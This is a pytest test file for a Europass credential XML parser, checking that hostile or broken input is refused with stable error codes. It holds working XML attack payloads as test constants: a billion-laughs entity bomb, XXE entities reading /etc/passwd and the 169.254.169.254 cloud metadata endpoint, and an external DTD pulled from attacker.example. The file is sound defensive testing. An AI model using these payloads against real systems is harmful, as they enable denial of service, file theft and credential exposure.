"""The one XML parser: hostile or broken input is refused quickly, each case with its stable code."""

from __future__ import annotations

import pytest
from lxml import etree

from europass.credentials.errors import CredentialError
from europass.credentials.example import example_credential
from europass.credentials.xmlsafe import parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>
<europassCredential xmlns="http://data.europa.eu/snb">&lol9;</europassCredential>"""
XXE_FILE = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<europassCredential xmlns="http://data.europa.eu/snb">&xxe;</europassCredential>"""
XXE_HTTP = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/">]>
<europassCredential xmlns="http://data.europa.eu/snb">&xxe;</europassCredential>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE europassCredential SYSTEM "http://attacker.example/e.dtd">
<europassCredential xmlns="http://data.europa.eu/snb"/>"""
UTF16_DTD = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'.encode("utf-16")
DEEP = b"<a>" * 10_000 + b"</a>" * 10_000
TOO_LARGE = b"<a>" + b"A" * (10 * 1024 * 1024) + b"</a>"

CASES = [
    ("billion laughs", BILLION_LAUGHS, "xml_dtd_forbidden"),
    ("XXE reading a file", XXE_FILE, "xml_dtd_forbidden"),
    ("XXE over http", XXE_HTTP, "xml_dtd_forbidden"),
    ("external DTD", EXTERNAL_DTD, "xml_dtd_forbidden"),
    ("a DTD in UTF-16", UTF16_DTD, "xml_dtd_forbidden"),
    ("10,000-deep nesting", DEEP, "xml_too_deep"),
    ("more than max_bytes", TOO_LARGE, "xml_too_large"),
    ("non-XML bytes", b"%PDF-1.7\n\x00\x01\x02binary", "xml_malformed"),
    ("truncated XML", b"<europassCredential xmlns='http://data.europa.eu/snb'><title>", "xml_malformed"),
    ("empty input", b"  \n ", "xml_malformed"),
]


@pytest.mark.parametrize(("name", "data", "code"), CASES, ids=[case[0] for case in CASES])
def test_hostile_or_broken_xml_is_refused_with_its_code(name: str, data: bytes, code: str) -> None:
    # How fast is measured in bench/, never asserted here.
    with pytest.raises(CredentialError) as refused:
        parse_xml(data)
    assert refused.value.code == code, str(refused.value)
    assert str(refused.value) == refused.value.message("en") and refused.value.message("fr")
    assert refused.value.message("fr") != refused.value.message("en")


def test_the_size_limit_is_checked_before_parsing_and_can_be_lowered() -> None:
    with pytest.raises(CredentialError) as refused:
        parse_xml(b"<a>" + b"x" * 2000 + b"</a>", max_bytes=1000)
    assert refused.value.code == "xml_too_large"


def test_the_depth_limit_can_be_lowered() -> None:
    parse_xml(b"<a>" * 10 + b"</a>" * 10, max_depth=10)
    with pytest.raises(CredentialError) as refused:
        parse_xml(b"<a>" * 11 + b"</a>" * 11, max_depth=10)
    assert refused.value.code == "xml_too_deep"


def test_an_entity_reference_without_a_declaration_is_malformed_not_expanded() -> None:
    with pytest.raises(CredentialError) as refused:
        parse_xml(b"<a>&undeclared;</a>")
    assert refused.value.code == "xml_malformed"


def test_our_own_credential_and_its_comments_are_parsed() -> None:
    xml = example_credential().to_xml().replace(b"<primaryLanguage>", b"<!-- kept --><primaryLanguage>")
    root = parse_xml(xml)
    assert root.tag == "{http://data.europa.eu/snb}europassCredential"
    assert any(isinstance(node.text, str) and node.text == " kept " for node in root.iter(tag=etree.Comment))
